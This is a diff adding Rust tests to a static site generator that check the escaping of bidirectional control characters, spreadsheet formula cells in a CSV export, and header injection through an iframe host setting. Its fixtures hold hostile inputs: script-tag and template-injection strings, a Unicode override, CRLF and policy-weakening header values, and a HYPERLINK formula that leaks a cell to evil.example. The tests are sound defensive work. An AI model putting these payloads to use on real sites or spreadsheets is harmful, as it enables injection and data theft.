@@ -80,7 +80,13 @@ fn pages_escape_every_value() {
     assert!(pages >= 10);
     let article = site.html("en/heart/hostile/index.html");
     let h1 = select_text(&article, "h1");
-    assert!(h1[0].starts_with(HOSTILE_TITLE_START), "{h1:?}");
+    // The title holds bidi overrides, so it is shown isolated (FSI … PDI).
+    assert!(
+        h1[0]
+            .trim_start_matches('\u{2068}')
+            .starts_with(HOSTILE_TITLE_START),
+        "{h1:?}"
+    );
     assert!(
         h1[0].contains("{{ 7*7 }}") && h1[0].contains("{% raw %}"),
         "{h1:?}"
@@ -221,4 +227,187 @@ fn pages_load_nothing_from_third_parties() {
             assert!(!css.contains("@import url(http"), "{fixture} {file}");
         }
     }
+}
+
+/// Whether a text leaves a bidirectional embedding or isolate open, or
+/// closes one it did not open: the two ways it reorders what follows.
+fn leaks_direction(text: &str) -> bool {
+    let mut open: Vec<bool> = Vec::new();
+    for c in text.chars() {
+        match c {
+            '\u{202A}' | '\u{202B}' | '\u{202D}' | '\u{202E}' => open.push(false),
+            '\u{2066}'..='\u{2068}' => open.push(true),
+            '\u{202C}' if open.pop() != Some(false) => return true,
+            '\u{2069}' => match open.iter().rposition(|&isolate| isolate) {
+                Some(at) => open.truncate(at),
+                None => return true,
+            },
+            _ => {}
+        }
+    }
+    !open.is_empty()
+}
+
+/// Bidirectional overrides in a title, an author, a reviewer (written as a
+/// character, not an escape) and a citation title are each reported at
+/// their line, and every text and attribute of every page is balanced, so
+/// none can reorder what the page shows around it.
+#[test]
+fn bidi_controls_are_reported_at_their_place_and_isolated_in_html() {
+    let site = TestSite::new("sites/hostile");
+    let report = site.build();
+    assert!(report.published, "{:?}", report.diagnostics);
+    let mut found: Vec<(String, usize, usize)> = report
+        .diagnostics
+        .iter()
+        .filter(|d| d.code == "text/bidi-control")
+        .map(|d| {
+            (
+                d.file.to_string_lossy().into_owned(),
+                d.position.line,
+                d.position.column,
+            )
+        })
+        .collect();
+    found.sort();
+    let hostile = "content/en/heart/hostile.md".to_string();
+    let title = "title: \"High <script>alert(1)</script> pressure \\\" ' </script> ]]> {{ 7*7 }} {% raw %} ";
+    assert_eq!(
+        found,
+        [
+            // `\u202E` then `\u202C` after "evil", in the title.
+            (hostile.clone(), 2, title.chars().count() + 1),
+            (hostile.clone(), 2, title.chars().count() + 11),
+            // `  - name: "Author <b>bold</b> \u202Eevil"`
+            (hostile.clone(), 11, 31),
+            // `  - name: Second <RLI>reviewer`: the character itself.
+            (hostile.clone(), 18, 18),
+            // `    title: "Source <script>alert(5)</script> \u202Dtitle"`
+            (hostile.clone(), 26, 46),
+        ],
+        "{:?}",
+        report.diagnostics
+    );
+    let mut isolated = 0;
+    for file in site.output_files().iter().filter(|f| f.ends_with(".html")) {
+        let html = site.html(file);
+        for node in html.tree.nodes() {
+            // JSON-LD is data for search engines, never shown: kept as written.
+            let in_script = node
+                .parent()
+                .and_then(|p| p.value().as_element().map(|e| e.name() == "script"))
+                .unwrap_or(false);
+            let texts: Vec<String> = match node.value() {
+                scraper::Node::Text(_) if in_script => Vec::new(),
+                scraper::Node::Text(t) => vec![t.to_string()],
+                scraper::Node::Element(e) => e.attrs().map(|(_, v)| v.to_string()).collect(),
+                _ => Vec::new(),
+            };
+            for text in texts {
+                assert!(!leaks_direction(&text), "{file}: {text:?}");
+                isolated += usize::from(text.contains('\u{2068}'));
+            }
+        }
+    }
+    assert!(
+        isolated >= 4,
+        "values with controls are wrapped: {isolated}"
+    );
+}
+
+/// Every social kit CSV cell a spreadsheet would read as a formula starts
+/// with `'`; the JSON kit keeps the values exactly as written.
+#[test]
+fn social_kit_csv_cells_never_start_a_formula() {
+    let site = built();
+    let mut cells = 0;
+    for record in csv::Reader::from_path(site.public().join("social/en.csv"))
+        .unwrap()
+        .records()
+    {
+        for cell in record.unwrap().iter() {
+            let first = cell.trim_start().chars().next();
+            assert!(
+                !matches!(
+                    first,
+                    Some('=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠')
+                ),
+                "{cell:?}"
+            );
+            assert!(!cell.starts_with(['\t', '\r']), "{cell:?}");
+            cells += usize::from(cell.starts_with("'=HYPERLINK") || cell.starts_with("'+cmd"));
+        }
+    }
+    assert!(
+        cells >= 2,
+        "the formula title and its posts are in the CSV: {cells}"
+    );
+    let kit: serde_json::Value = serde_json::from_str(&site.read("social/en.json")).unwrap();
+    let titles: Vec<&str> = kit["articles"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|a| a["title"].as_str())
+        .collect();
+    assert!(
+        titles.contains(&"=HYPERLINK(\"http://evil.example/?leak=\"&A1, \"Click\")"),
+        "{titles:?}"
+    );
+}
+
+/// `markdown.iframe_hosts` values that would add a header or weaken the
+/// policy are refused when site.yaml is read, at their line, and nothing
+/// is published; a valid list ends up as the only frame sources.
+#[test]
+fn iframe_hosts_cannot_inject_into_headers() {
+    for (written, line) in [
+        ("\"www.youtube.com\\r\\nX-Frame-Options: ALLOWALL\"", 11),
+        ("\"www.youtube.com; script-src *\"", 11),
+        ("\"* 'unsafe-inline'\"", 11),
+        ("https://www.youtube.com/embed", 11),
+        ("\"evil.example,www.youtube.com\"", 11),
+        ("\"www.youtube.com\\u2028x\"", 11),
+    ] {
+        let site = TestSite::new("sites/hostile");
+        site.edit("site.yaml", |t| {
+            format!("{t}markdown:\n  iframe_hosts:\n    - {written}\n")
+        });
+        let report = site.build();
+        assert!(!report.published, "{written}");
+        let d = report
+            .diagnostics
+            .iter()
+            .find(|d| d.code == "config/invalid-value")
+            .unwrap_or_else(|| panic!("{written}: {:?}", report.diagnostics));
+        assert_eq!(d.file.to_string_lossy(), "site.yaml");
+        assert!(
+            d.position.line == line || d.position.line == line - 1,
+            "{written}: {d:?}"
+        );
+        assert!(
+            d.hint.as_deref().unwrap_or("").contains("host name"),
+            "{d:?}"
+        );
+        assert!(!site.exists("_headers"), "{written}");
+    }
+    let site = TestSite::new("sites/hostile");
+    site.edit("site.yaml", |t| {
+        format!("{t}markdown:\n  iframe_hosts: [www.youtube-nocookie.com, player.vimeo.com]\n")
+    });
+    assert!(site.build().published);
+    let headers = site.read("_headers");
+    assert_eq!(headers.lines().count(), 6, "{headers}");
+    assert!(
+        headers.contains(
+            "frame-src https://www.youtube-nocookie.com https://player.vimeo.com; object-src"
+        ),
+        "{headers}"
+    );
+    assert!(
+        headers
+            .bytes()
+            .all(|b| b == b'\n' || (0x20..0x7f).contains(&b))
+    );
+    let robots = site.read("robots.txt");
+    assert_eq!(robots.lines().count(), 4, "{robots}");
 }
